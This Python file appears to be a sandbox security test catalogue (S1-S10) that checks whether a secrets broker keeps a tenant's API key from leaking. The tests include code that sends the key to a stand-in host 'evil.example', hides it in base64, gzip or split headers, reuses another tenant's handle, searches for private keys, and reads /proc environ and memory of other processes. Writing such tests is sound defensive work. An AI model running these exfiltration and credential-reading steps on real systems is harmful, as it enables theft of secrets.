"""S1-S10: finding a secret, sending it elsewhere, seeing it come back, and being somebody else."""

import base64
import json
import secrets
from collections.abc import Mapping
from typing import Any

from raptorflow.sandbox.attacks.catalogue.twins import twins
from raptorflow.sandbox.attacks.model import Attack, Outcome, Trial, outcomes
from raptorflow.sandbox.attacks.outward import IMPORTS, with_touched, world_of
from raptorflow.sandbox.attacks.program import Said, said, together
from raptorflow.sandbox.attacks.seeking import SEEK
from raptorflow.sandbox.attacks.stage import SHARED, TMP, Stage
from raptorflow.sandbox.attacks.steps import Step, Steps
from raptorflow.sandbox.attacks.world import GOOD, TENANT, Hit, World, plain
from raptorflow.sandbox.result import SandboxResult
from raptorflow.skills.capabilities import MIB

NAME = "API_KEY"
# Searching means to hold what is searched.
SEARCH_BYTES = 512 * MIB
PLACES = ("/workspace", TMP, SHARED, "/run", "/var", "/opt", "/skill")
SEND = (
    "answer = tls_get(f'{GOOD}:{TLS}', headers='Authorization: Bearer ' + os.environ['API_KEY'] + '\\r\\n')\n"
)
HANDLE = "handle = os.environ['API_KEY']\n"


def _secret(world: World, tenant: str = TENANT) -> str:
    """A new value for the tenant's secret."""
    value = f"sk-{secrets.token_hex(20)}"
    world.vault.values[tenant, NAME] = value
    return value


def _fields(world: World, *more: str) -> dict[str, Any]:
    return world.reach(*more, secrets={NAME: f"{GOOD}:{world.good.tls_port}"})


async def _run(stage: Stage, world: World, codes: Mapping[str, str], **fields: Any) -> SandboxResult:
    """Steps inside, with the secret's handle in a variable."""
    text = stage.text(
        {name: IMPORTS + code for name, code in codes.items()}, world.facts, apart=True, outside=False
    )
    limits = {"memory_bytes": SEARCH_BYTES}
    return await stage.with_manager(world.manager).inside(text, limits=limits, **{**_fields(world), **fields})


def _arrived(world: World, value: str) -> bool:
    return any(value.encode() in hit.head for hit in world.good.hits)


def _spelled(value: str, content: bytes) -> bool:
    """Whether a value stands in bytes, as it is or in base64."""
    return value.encode() in content or base64.b64encode(value.encode())[:-4] in content


def _words(answers: Mapping[str, Said]) -> str:
    return together(f"{name}: {answer.words or answer.saw}" for name, answer in answers.items())


async def never_inside(stage: Stage) -> Trial:
    """S1: the secret is used, and then looked for wherever a program can look, and in what comes out."""
    world = world_of(stage)
    value = _secret(world)
    seek = f"HEAD, TAIL, PLACES = {value[:10]!r}, {value[10:]!r}, {PLACES!r}\n{SEEK}"
    handle = f"{HANDLE}HEAD, TAIL, PLACES = handle[:10], handle[10:], {PLACES!r}\n{SEEK}"
    keep = "Path('out/env').write_text(repr(dict(os.environ)) + repr(sys.argv))"
    codes = {"send": SEND, "seek": seek, "seek the handle": handle, "keep": keep}
    result = await _run(stage, world, codes)
    answers = said(result.stdout)
    outside = result.stdout + result.stderr + (result.message or "").encode()
    outside += b"".join(artifact.path.read_bytes() for artifact in result.artifacts)
    outside += b"".join(file.read_bytes() for file in world.records.rglob("*") if file.is_file())
    found = answers.get("seek")
    bad = [found.words] if found and found.saw == "through" else []
    bad += ["what came out"] if _spelled(value, outside) else []
    seen: Outcome = "through" if bad else "absent" if found and found.saw == "absent" else "broken"
    handles = answers.get("seek the handle")
    alive = _arrived(world, value) and handles is not None and handles.saw == "through"
    words = (
        together(bad) or f"used once, found {found.words if found else '?'}, nor in output, files, decisions"
    )
    return Trial(
        outcomes(seen), words, alive, "the same search finds its handle, and the host got the secret"
    )


async def elsewhere(stage: Stage) -> Trial:
    """S2: the handle goes to its host as the secret, and anywhere else not at all."""
    world = world_of(stage)
    value = _secret(world)
    world.names.lead("evil.example", ["127.77.0.2"])
    world.evil.answer = lambda hit: plain(b"thanks")
    header = "headers='Authorization: Bearer ' + os.environ['API_KEY'] + '\\r\\n'"
    codes = {
        "its host": SEND,
        "another allowed host": f"get(f'http://{{OTHER}}:{{PORT}}/', {header})",
        "its host in the clear": f"get(f'http://{{GOOD}}:{{PORT}}/', {header})",
        "another name for its host": f"tls_get(f'{{OTHER}}:{{TLS}}', {header})",
        "a forbidden host": f"get(f'http://{{EVIL}}:{{EVIL_PORT}}/', {header})",
    }
    fields = _fields(world, f"other.allowed.example:{world.good.port}")
    answers = said((await _run(stage, world, codes, **fields)).stdout)
    through = [name for name, answer in answers.items() if answer.saw == "through" and name != "its host"]
    times = sum(value.encode() in hit.head + hit.body for hit in world.good.hits)
    seen = outcomes("refused" if not through and times <= 1 and len(answers) == len(codes) else "through")
    trial = Trial(seen, _words(answers), times == 1, f"the real value reached its host {times} times")
    return with_touched(trial, world)


async def odd_places(stage: Stage) -> Trial:
    """S3: a handle in a URL, a body, compressed or split is text: it arrives as it is, or not at all."""
    world = world_of(stage)
    value = _secret(world)
    codes = {
        "header": SEND,
        "query": f"{HANDLE}tls_get(f'{{GOOD}}:{{TLS}}', path='/?key=' + handle)",
        "body": f"{HANDLE}tls_get(f'{{GOOD}}:{{TLS}}', path='/body', body=handle.encode())",
        "base64 in a body": f"{HANDLE}import base64\n"
        "tls_get(f'{GOOD}:{TLS}', path='/b64', body=base64.b64encode(handle.encode()))",
        "gzip in a body": f"{HANDLE}import gzip\n"
        "tls_get(f'{GOOD}:{TLS}', path='/gzip', body=gzip.compress(handle.encode()))",
        "split over headers": f"{HANDLE}split = 'A: ' + handle[:20] + '\\r\\nB: ' + handle[20:] + '\\r\\n'\n"
        "tls_get(f'{GOOD}:{TLS}', path='/split', headers=split)",
    }
    answers = said((await _run(stage, world, codes)).stdout)
    leaked = [
        hit.head.split(b"\r\n")[0].decode()
        for hit in world.good.hits
        if _spelled(value, hit.head + hit.body) and b"GET / " not in hit.head
    ]
    seen = outcomes("through" if leaked else "contained")
    words = together(leaked) or f"{len(world.good.hits)} requests, the value in the header of one"
    return Trial(seen, words, _arrived(world, value), f"in a header it is replaced; {_words(answers)}")


async def echoed(stage: Stage) -> Trial:
    """S4: a host that repeats the secret, in its body, a header, or base64."""
    world = world_of(stage)
    value = _secret(world)

    def repeat(hit: Hit) -> bytes:
        body = hit.head + base64.b64encode(value.encode()) + json.dumps({"key": value}).encode()
        return plain(body, headers=f"X-Key: {value}\r\nConnection: close\r\n")

    world.good.answer = repeat
    codes = {
        "echo": f"{SEND}sys.stdout.buffer.write(answer + bytes([10]))\nsys.stdout.flush()\nreturn len(answer)"
    }
    result = await _run(stage, world, codes)
    leaked = _spelled(value, result.stdout)
    came = said(result.stdout).get("echo")
    alive = _arrived(world, value) and came is not None and came.saw == "through"
    words = "the answer held the secret" if leaked else f"{came.words if came else 0} bytes came back, masked"
    seen = outcomes("through" if leaked else "contained")
    return Trial(seen, words, alive, "the host got the secret and repeated it three times")


async def own_header(stage: Stage) -> Trial:
    """S5: a header of the program's own beside the handle's: only what it wrote itself arrives."""
    world = world_of(stage)
    value = _secret(world)
    codes = {
        "its own": "tls_get(f'{GOOD}:{TLS}', path='/own', headers='Authorization: Bearer mine\\r\\n')",
        "a handle that it made up": "made_up = 'Authorization: rfsec_' + 'a' * 40 + '\\r\\n'\n"
        "tls_get(f'{GOOD}:{TLS}', path='/made-up', headers=made_up)",
        "the handle": SEND,
    }
    answers = said((await _run(stage, world, codes)).stdout)
    paths = {hit.head.split(b" ")[1]: hit.head for hit in world.good.hits}
    wrong = [path.decode() for path, head in paths.items() if path != b"/" and value.encode() in head]
    made_up = answers.get("a handle that it made up")
    if made_up is None or made_up.saw == "through":
        wrong.append("a made-up handle was accepted")
    seen = outcomes("through" if wrong else "contained")
    words = together(wrong) or f"a header of its own arrives as it is; {_words(answers)}"
    return Trial(seen, words, _arrived(world, value), "the handle was replaced beside it")


async def another_tenants(stage: Stage) -> Trial:
    """S6: one tenant's sandbox uses another's handle, and asks for the secret by its name."""
    world = world_of(stage)
    value = _secret(world, "tenant-a")
    first = await _run(stage, world, {"handle": f"{SEND}return os.environ['API_KEY']"}, tenant="tenant-a")
    handle = said(first.stdout).get("handle")
    stolen = handle.words if handle else ""
    alive = _arrived(world, value)
    world.good.clear()
    codes = {
        "stolen handle": f"tls_get(f'{{GOOD}}:{{TLS}}', headers='Authorization: {stolen}\\r\\n')",
        "the same name": SEND,
    }
    answers = said((await _run(stage, world, codes, tenant="tenant-b")).stdout)
    got = _arrived(world, value) or any(answer.saw == "through" for answer in answers.values())
    seen = outcomes("through" if got or len(answers) != len(codes) else "refused")
    return Trial(seen, _words(answers), alive and bool(stolen), "its owner's sandbox could use it")


async def rotated(stage: Stage) -> Trial:
    """S7: the value changes and is taken back while a sandbox runs."""
    world = world_of(stage)
    old, new = _secret(world), f"sk-{secrets.token_hex(20)}"

    def rotate(hit: Hit) -> bytes:
        if b"/first" in hit.head:
            world.vault.values[TENANT, NAME] = new
        if b"/second" in hit.head:
            del world.vault.values[TENANT, NAME]
        return plain(b"ok", headers="Connection: close\r\n")

    world.good.answer = rotate
    header = "headers='Authorization: ' + os.environ['API_KEY'] + '\\r\\n'"
    codes = {
        path: f"tls_get(f'{{GOOD}}:{{TLS}}', path='/{path}', {header})"
        for path in ("first", "second", "third")
    }
    answers = said((await _run(stage, world, codes)).stdout)
    got = {hit.head.split(b" ")[1]: hit.head for hit in world.good.hits}
    first, second = old.encode() in got.get(b"/first", b""), new.encode() in got.get(b"/second", b"")
    third = answers.get("third")
    shut = second and third is not None and third.saw == "refused" and b"/third" not in got
    return Trial(
        outcomes("refused" if shut else "through"),
        _words(answers),
        first,
        "the first request had the first value",
    )


async def authorities(stage: Stage) -> Trial:
    """S9: each sandbox trusts an authority of its own, whose key is not inside."""
    world = world_of(stage)
    _secret(world)
    show = "return Path(os.environ['SSL_CERT_FILE']).read_text()[-300:]"
    key = (
        "HEAD, TAIL, PLACES = '-----BEGIN EC PRIV', 'ATE KEY', ('/workspace', '/run', '/opt', '/etc')\n"
        + SEEK
    )
    more = {"show": show, "key": key, "pem": key.replace("EC PRIV", "PRIV"), "send": SEND}
    answers = [said((await _run(stage, world, more)).stdout) for _ in range(2)]
    shown = [each["show"].words for each in answers if "show" in each and each["show"].saw == "through"]
    keys = [
        name for each in answers for name in ("key", "pem") if name in each and each[name].saw == "through"
    ]
    sent = all("send" in each and each["send"].saw == "through" for each in answers)
    different = len(shown) == len(answers) and len(set(shown)) == len(answers)
    seen = outcomes("contained" if different and not keys else "through")
    words = f"{len(set(shown))} authorities in {len(answers)} sandboxes, {len(keys)} keys found inside"
    return Trial(seen, words, sent, "TLS to the host works with each" if sent else "TLS does not even work")


async def control_token(stage: Stage) -> Trial:
    """S10: what the agent holds cannot be read or taken by the programs that it starts."""
    return await Steps(
        {
            f"{name} of process {pid}": Step(
                f"content = open('/proc/{pid}/{name}', 'rb').read(1)",
                twin=f"open('/proc/self/{name}', 'rb').read(1)",
            )
            for pid in (1, 2)
            for name in ("environ", "maps")
        }
        | {
            f"memory of process {pid}": Step(
                f"os.close(os.open('/proc/{pid}/mem', os.O_RDWR))",
                twin="os.close(os.open('/proc/self/mem', os.O_RDWR))",
            )
            for pid in (1, 2)
        }
        | {
            "its channel": Step(
                "for pid in (1, 2):\n"
                "    for number in range(64):\n"
                "        try:\n"
                "            os.close(os.open(f'/proc/{pid}/fd/{number}', os.O_RDWR))\n"
                "            return f'{pid} {number}'\n"
                "        except OSError:\n"
                "            pass\n"
                "raise Refused('none could be opened')",
                twin="one, two = os.pipe(); os.close(os.open(f'/proc/self/fd/{one}', os.O_RDONLY))",
            ),
            "a token in a variable": Step(
                "names = [name for name in os.environ if 'TOKEN' in name or 'NONCE' in name]\n"
                "if not names: raise Absent('none')",
                twin="os.environ['A_TOKEN'] = 'x'; [name for name in os.environ if 'TOKEN' in name][0]",
            ),
        }
    )(stage)


SECRETS = (
    Attack(
        "S1",
        "Finding the secret",
        "use a secret, then look for it in variables, arguments, files, memory, output and records",
        "only a handle is inside; the broker puts the value in on the way out",
        never_inside,
        outcomes("absent"),
    ),
    Attack(
        "S2",
        "Sending it elsewhere",
        "send the handle to another host, another name for the same host, and in the clear",
        "a handle is worth something at one host and port, over TLS alone",
        elsewhere,
        outcomes("refused"),
    ),
    Attack(
        "S3",
        "The handle in odd places",
        "put the handle in the URL, a body, base64, gzip, and split over headers",
        "handles are replaced in headers only; elsewhere they are text without worth, and counted",
        odd_places,
        outcomes("contained"),
    ),
    Attack(
        "S4",
        "A host that repeats it",
        "have the host send the secret back, in headers, body and base64",
        "answers of such hosts are searched, and the value is masked in every usual spelling",
        echoed,
        outcomes("contained"),
    ),
    Attack(
        "S5",
        "A header of its own",
        "send an own Authorization header, and a handle that was made up",
        "only a handle of this sandbox is replaced; what was made up is refused",
        own_header,
        outcomes("contained"),
    ),
    Attack(
        "S6",
        "Another tenant's secret",
        "use a handle that another tenant's sandbox had, and the same secret's name",
        "handles belong to one sandbox; values are asked of the run's own tenant",
        another_tenants,
        outcomes("refused"),
    ),
    Attack(
        "S7",
        "After it was taken back",
        "go on using a secret that was changed, then taken back",
        "the value is asked for at each request",
        rotated,
        outcomes("refused"),
    ),
    Attack(
        "S8",
        "Twins",
        "make sandboxes alike and compare their random numbers and clocks",
        "each starts its programs after it was made; a copy of a frozen one is given a new seed first",
        twins,
        outcomes("contained"),
    ),
    Attack(
        "S9",
        "Another's authority",
        "compare the authorities of two sandboxes, and look for their keys",
        "each sandbox has an authority of its own, whose key stays in the broker's memory",
        authorities,
        outcomes("contained"),
    ),
    Attack(
        "S10",
        "Being the agent",
        "read the agent's memory and variables, and open its channel",
        "another process's memory may not be touched (Landlock, no ptrace); there is no token to steal",
        control_token,
        outcomes("refused", "absent"),
    ),
)
